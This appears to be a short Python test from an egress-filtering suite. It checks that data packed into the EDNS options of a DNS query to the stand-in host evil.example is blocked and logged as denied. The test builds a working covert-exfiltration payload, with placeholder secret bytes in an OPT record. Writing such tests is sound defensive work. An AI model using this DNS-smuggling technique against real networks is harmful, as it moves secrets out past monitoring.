# Data in EDNS options goes nowhere.
# log: kind=dns verdict=deny reason=no_rule name=evil.example
# off: host
from egress import *

secret = b"\0\x41\0\x20" + b"S" * 32
opt = b"\0\0\x29\x04\xd0\0\0\0\0" + struct.pack(">H", len(secret)) + secret
answered(ask(question("evil.example", more=opt, counts=(1, 0, 0, 1))))
